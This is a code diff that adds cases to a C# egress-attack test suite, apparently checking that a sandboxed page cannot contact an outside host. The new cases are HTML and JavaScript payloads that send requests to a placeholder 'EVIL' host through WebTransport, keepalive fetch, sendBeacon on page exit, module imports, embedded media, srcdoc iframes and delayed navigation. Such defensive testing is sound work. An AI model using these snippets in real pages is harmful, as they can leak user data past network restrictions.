@@ -71,6 +71,13 @@ public sealed class EgressAttackTests(EgressFixture fixture) : IClassFixture<Egr
         { "form-get", """<form action="EVIL/search"><input name="q" aria-label="Query" value="x"> <button>Search it</button></form>""", "Search it", "/search" },
         { "meta-refresh", """<meta http-equiv="refresh" content="0;url=EVIL/meta">""", null, "/meta" },
         { "css", """<style>@import url("EVIL/import.css"); body { background: url("EVIL/bg.png"); }</style>""", null, "/import.css" },
+        // QUIC/UDP: WebTransport opens its own connection, not through an HTTP proxy.
+        { "webtransport", """<script>window.DONE = (async function () { try { const t = new WebTransport('https://' + 'EVIL/wt'.replace('http://', '')); await t.ready; } catch (e) { return String(e); } })();</script>""", null, null },
+        { "unload-keepalive", """<a href="/p/elsewhere">Next page</a><script>addEventListener('pagehide', function () { fetch('EVIL/keepalive', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }); navigator.sendBeacon('EVIL/unload-beacon', 'y'); });</script>""", "Next page", "/keepalive" },
+        { "module-import", """<script type="module">window.DONE = import('EVIL/mod.js').catch(function () { return 'failed'; });</script>""", null, "/mod.js" },
+        { "embedded-content", """<svg width="10" height="10"><image href="EVIL/svg.png" width="10" height="10"/></svg><object data="EVIL/object"></object><video src="EVIL/video.mp4"></video><style>@font-face { font-family: x; src: url("EVIL/font.woff2"); } p { font-family: x; }</style><p>text</p>""", null, "/svg.png" },
+        { "srcdoc-frame", """<iframe srcdoc="<script>fetch('EVIL/srcdoc', { mode: 'no-cors' }).catch(function () {}); location.href = 'EVIL/srcdoc-nav';</script>"></iframe>""", null, "/srcdoc" },
+        { "delayed-navigation", """<button onclick="setTimeout(function () { location.replace('EVIL/later'); }, 50)">Wait then go</button>""", "Wait then go", "/later" },
     };
 
     [Theory]
